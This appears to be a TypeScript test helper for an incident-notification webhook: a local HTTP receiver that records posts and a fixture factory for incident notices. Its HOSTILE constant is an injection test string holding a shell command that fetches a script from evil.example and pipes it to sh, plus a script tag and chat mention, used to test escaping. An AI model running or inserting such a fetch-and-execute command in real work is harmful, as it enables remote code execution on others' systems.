import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'

import type { Notice } from '../../src/reports/incident/types.ts'

export const WEBHOOK_SECRET = `whsec_${Buffer.alloc(32, 7).toString('base64')}`
/** Wants to be a mention, a link, a script and a command of whatever shows it. */
export const HOSTILE = '/a;wget http://evil.example/x|sh<!channel><script>alert(1)</script>`*b*'

export interface Received {
  headers: IncomingHttpHeaders
  path: string
  body: string
}

/** Takes what is posted; `answer` says what comes back for the nth of a path, counted from 1. `/hang` never answers. */
export const startReceiver = async (answer: (path: string, nth: number) => number = () => 204) => {
  const received: Received[] = []
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const path = request.url!
      received.push({ headers: request.headers, path, body: Buffer.concat(chunks).toString() })
      if (path === '/hang') return
      const status = answer(path, received.filter((each) => each.path === path).length)
      response.writeHead(status, status === 302 ? { location: '/elsewhere' } : {})
      // Without an end: an answer as long as somebody listens.
      if (path === '/endless') {
        const more = (): void =>
          void (response.destroyed || response.write('x'.repeat(16_384), () => setImmediate(more)))
        more()
      } else response.end()
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    port,
    url: `http://127.0.0.1:${port}`,
    received,
    of: (path: string) => received.filter((each) => each.path === path),
    stop: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

export const notice = (given: Partial<Notice> = {}): Notice => ({
  id: 'inc_1',
  subject: 'ADDRESS',
  hour: { from: '2026-11-20T12:00:00.000Z', to: '2026-11-20T13:00:00.000Z' },
  campaign: null,
  addresses: [
    { ip: '203.0.113.7', country: 'DE', asn: 64_500, asOrganization: 'Net <b>', score: 90.4, isBlocked: false },
  ],
  addressCount: 1,
  blockedCount: 0,
  sightings: [
    {
      detector: 'command_injection',
      summary: 'Command injection: 6 points within an hour, from 3 on it is flagged.',
      observed: 6,
      threshold: 3,
      addresses: 1,
    },
  ],
  target: HOSTILE,
  services: ['shop'],
  link: '/graphql?query=%7B%20a%20%7D',
  ...given,
})
